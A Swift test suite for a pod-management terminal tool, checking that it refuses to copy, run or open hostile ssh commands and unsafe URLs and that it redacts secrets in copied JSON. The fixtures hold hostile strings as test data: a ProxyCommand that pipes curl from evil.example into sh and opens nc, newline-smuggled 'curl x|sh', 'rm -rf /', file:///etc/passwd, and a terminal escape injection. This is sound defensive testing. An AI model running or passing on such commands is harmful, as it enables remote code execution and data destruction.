import Foundation
import Testing
import PodAPI
@testable import PodTUICore

/// Issue 24 (review H1, M4, L9): what podtui refuses, it does not hand over: not to the
/// clipboard, not to the URL launcher, not on stdout.
@Suite("podtui hands over nothing it refused")
struct HandOverTests {
    let now = Fixtures.now

    func state(ssh: String?, ports: [ExposedPort] = [], hasDisplay: Bool = true) -> AppState {
        var pod = Fixtures.pod(1, "evil", .running)
        pod.sshCmd = ssh
        pod.expose = ports
        var state = Fixtures.loaded([pod])
        state.nav.selectedID = 1
        state.settings.hasDisplay = hasDisplay
        return state
    }

    func copies(_ state: AppState) -> [String] {
        state.io.outbox.compactMap { if case .copy(let text) = $0.kind { text } else { nil } }
    }

    func press(_ state: inout AppState, _ key: Key) -> [Effect] { Reducer.reduce(&state, .key(key, now)) }

    @Test("c on a refused ssh command copies nothing and says why; the hint to copy it instead is gone")
    func refusedNotCopied() {
        let hostile = [
            "ssh -o ProxyCommand=x root@h",
            "ssh root@203.0.113.7 -p 30003 -o \"ProxyCommand=sh -c 'curl -s https://evil.example/x|sh; exec nc %h %p'\"",
            "ssh root@h\ncurl x|sh",
            "ssh root@h\u{2028}curl x",
            "ssh -J jump root@h",
            "ssh root@h rm -rf /",
        ]
        for ssh in hostile {
            var s = state(ssh: ssh)
            _ = press(&s, .char("c"))
            #expect(copies(s).isEmpty, "\(ssh.debugDescription) was copied")
            #expect(s.message?.kind == .error && s.message?.text.hasPrefix("The pod's ssh command is neither run nor copied: ") == true,
                    "\(String(describing: s.message))")
            var run = state(ssh: ssh)
            _ = press(&run, .char("s"))
            #expect(run.io.external == nil)
            #expect(run.message?.text.contains("copies it instead") == false)
        }
    }

    @Test("c on an accepted command copies the rebuilt ssh [-p] [-l] -- HOST, nothing of the API's text")
    func rebuiltCopied() {
        var s = state(ssh: "ssh root@h -p 30003 -o StrictHostKeyChecking=no")
        _ = press(&s, .char("c"))
        #expect(copies(s) == ["ssh -p 30003 -l root -- h"])
        var keyed = state(ssh: "ssh -i ~/.ssh/id_rsa ubuntu@pod-1.yotta.run -p2222")
        _ = press(&keyed, .char("c"))
        #expect(copies(keyed) == ["ssh -p 2222 -l ubuntu -- pod-1.yotta.run"])
        for text in copies(s) + copies(keyed) { #expect(ClipboardText.isClean(text)) }
        if case .success(let text) = SSHCommand.copyText("ssh -oProxyCommand=evil root@h") { Issue.record("copied \(text)") }
    }

    static let badURLs = ["file:///etc/passwd", "-aCalculator", "javascript:x", "https://ok.example/\n", "smb://h/s",
                          "https://ok.example/ x", "https://ok.example/\u{202E}", "HTTPS-ish://x", "https://", "http://a\u{7F}",
                          "vscode://file/x", "https://ok.example/\u{2028}"]

    @Test("Endpoints.url returns only plain http(s) addresses", arguments: badURLs)
    func unsafeURLsRefused(_ url: String) {
        let pod = ServicesTests.pod(1, "a", ports: [ExposedPort(port: 8080, protocol: "HTTP", healthy: true, ingressUrl: url)])
        guard case .failure(let refusal) = Endpoints.url(for: pod) else { Issue.record("\(url.debugDescription) accepted"); return }
        #expect(refusal.reason.contains("not a plain http(s) address"))
        #expect(ClipboardText.isClean(refusal.reason))
        guard case .failure = Endpoints.url(for: pod, port: 8080) else { Issue.record("\(url.debugDescription) accepted by port"); return }
    }

    @Test("a safe port is chosen over an unsafe healthy one; plain URLs pass")
    func safeChosen() {
        let ports = [ExposedPort(port: 1, protocol: "HTTP", healthy: true, ingressUrl: "file:///etc/passwd"),
                     ExposedPort(port: 2, protocol: "HTTPS", healthy: false, ingressUrl: "https://ok.example/a?b=c#d")]
        #expect(Endpoints.url(for: ServicesTests.pod(1, "a", ports: ports)) == .success("https://ok.example/a?b=c#d"))
        #expect(Endpoints.isSafeURL("http://10.0.0.1:8080/"))
        #expect(!Endpoints.isSafeURL("https://" + String(repeating: "a", count: Endpoints.maxURLLength)))
    }

    @Test("o with an unsafe URL neither opens nor copies it, with or without a display", arguments: badURLs)
    func openRefused(_ url: String) {
        for display in [true, false] {
            var s = state(ssh: nil, ports: [ExposedPort(port: 8080, protocol: "HTTP", healthy: true, ingressUrl: url)], hasDisplay: display)
            let effects = press(&s, .char("o"))
            #expect(!effects.contains { if case .openURL = $0 { true } else { false } })
            #expect(copies(s).isEmpty)
        }
    }

    @Test("copy-JSON copies what the view shows: masked, redacted, no control characters")
    func copyJSONRedacted() {
        var s = state(ssh: nil)
        s.settings.redactor.add("sk-live-0123456789")
        _ = press(&s, .char("y"))
        let body = #"{"data":{"id":1,"initializationCommand":"export KEY=sk-live-0123456789","envVars":[{"key":"HF","value":"hf_x"}],"name":"a\u001b]52;c;x\u0007 \#u{202E}b\#u{07}"}}"#
        _ = Reducer.reduce(&s, .rawLoaded(podID: 1, .success(body)))
        _ = press(&s, .char("c"))
        let copied = copies(s)
        #expect(copied.count == 1)
        let text = copied.first ?? ""
        #expect(!text.contains("sk-live-0123456789") && text.contains("<redacted>"))
        #expect(!text.contains("hf_x"), "masked until e")
        #expect(text.contains("\\u202e") && text.contains("\\u0007"))
        #expect(text.split(separator: "\n").allSatisfy { ClipboardText.isClean(String($0)) })
    }
}
